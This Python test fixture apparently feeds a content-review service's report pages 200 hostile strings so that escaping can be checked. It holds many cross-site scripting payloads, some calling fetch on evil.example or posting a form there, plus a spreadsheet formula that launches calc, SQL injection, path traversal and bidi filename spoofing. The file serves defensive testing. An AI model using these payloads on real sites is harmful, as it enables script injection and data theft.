"""Two hundred texts that should do nothing but be read: markup, scripts, addresses, templates, odd characters."""

from itertools import product
from typing import Any

from tests.service.review import samples

_CALLS = ("alert(1)", "confirm`1`", "top['al'+'ert'](1)", "fetch('//evil.example/')")
_AROUND = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    "<ScRiPt\n>{0}</sCrIpT\t>",
    "<img src=x onerror={0}>",
    "<svg onload={0}></svg>",
    "<svg><script>{0}</script></svg>",
    "\"' autofocus onfocus={0} x='\"",
    '" onmouseover="{0}" style="position:fixed;inset:0',
    "</div></bdi></a><iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    '<iframe src="javascript:{0}"></iframe>',
    '<a href="javascript:{0}">click</a>',
    '<form action="javascript:{0}"><button>go</button></form>',
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<body onload={0}>",
    "<video><source onerror={0}></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<textarea></textarea><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</title><script>{0}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<style>@import 'javascript:{0}';body{{display:none}}</style>",
    "<link rel=stylesheet href='data:text/css,*{{display:none}}'>{0}",
    "<base href=//evil.example/>{0}",
    "<object data='data:text/html,<script>{0}</script>'></object>",
    "<template><script>{0}</script></template>",
    "<dialog open data-map><button data-key=u autofocus onclick={0}>x</button></dialog>",
    "<div data-row data-key=b data-submit onclick={0}>x</div>",
    "javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "{{{{ {0} }}}}",
    "{{% if 1 %}}{0}{{% endif %}}",
    "${{{0}}} #{{{0}}} <%= {0} %>",
    '<!--<img src="--><img src=x onerror={0}//">',
    "<![CDATA[<script>{0}</script>]]>",
    "<x\x0bonclick={0}>x",
    '<a href="\u0001javascript:{0}">x</a>',
    "＜script＞{0}＜/script＞",
    "<p id=text class=text>{0}</p><p id=decision>",
    "<p id=unveil></p><form id=decision data-submit action=//evil.example>{0}</form>",
)
_ODD = (
    "one\r\ntwo\rthree\n\nfour\u2028five",
    "ze\u200bro \u202egnp.exe\u202c \u2066x\u2069\u2069 \ufeff",
    "👨‍👩‍👧 ❤️ e\u0301 שלום مرحبا",
    "\n\nleading line feeds",
    "   spaces   ",
    "\t\ttabs\tand\u00a0more\u2003space ",
    "Ж" * 400,
    "a\u0300" * 200,
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE articles; --",
    "../../etc/passwd",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "null",
    "[object Object]",
    "-1e309",
    "𝒜𝒷𝒸 🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "\ufffe\uffff\U0010ffff",
    "\u001b[31mred\u0007\u0008",
    "http://evil.example/?q=<b>",
    "<" * 300,
    "&" * 300,
    "\"" * 100 + "'" * 100 + "`" * 100,
    "\U000e0041\U000e0042 tags",
    "A\u0335\u0336\u0337\u0338B",
)  # fmt: skip
PAYLOADS = [*(around.format(call) for around, call in product(_AROUND, _CALLS)), *_ODD]


# Ten to an article: a page is slow to open, and each payload stands in fields of its own.
GROUPS = [tuple(PAYLOADS[at : at + 10]) for at in range(0, len(PAYLOADS), 10)]


def hostile_text(group: tuple[str, ...]) -> str:
    return "\n\n".join(group)


def hostile_report(group: tuple[str, ...]) -> dict[str, Any]:
    """Each payload in a label, a reason, an organisation's name, the lists, a footnote; all in source and versions."""
    text = hostile_text(group)
    report = samples.empty_report(text)
    report["versions"] = dict.fromkeys(report["versions"], text)
    places, at = [], 0
    for payload in group:
        places.append({"start": at, "end": at + len(payload), "text": payload, "reason": payload})
        at += len(payload) + 2
    report["violence"] |= {
        "sentences": [
            {"start": place["start"], "end": place["end"], "score": 0.9, "graphic": 0.9, "inciting": 0.0}
            for place in places[::2]
        ],
        "findings": [{"label": place["text"], "score": 0.9, "evidence": [place, place]} for place in places],
    }
    report["designations"] |= {
        "footnotes": [
            {**place, "kind": place["text"], "jurisdiction": place["text"], "marker": place["text"]} for place in places
        ],
        "mentions": [_mention(place, number) for number, place in enumerate(places)],
    }
    outlet = {"name": text, "ownership": text, "country": text}
    dateline = {"start": 0, "end": len(text), "place": text, "date": text, "agency": text}
    report["source_bias"]["source"] = {"dateline": dateline, "outlet": outlet}
    return report


def _mention(place: dict[str, Any], number: int) -> dict[str, Any]:
    names = ("jurisdiction", "list", "kind", "since", "until", "status")
    return {
        **place,
        "organisation": {"id": f"x{number}", "name": place["text"]},
        "score": 1.0,
        "marked": False,
        "marker": None,
        "footnote": number,
        "designated_by": [dict.fromkeys(names, place["text"])],
    }
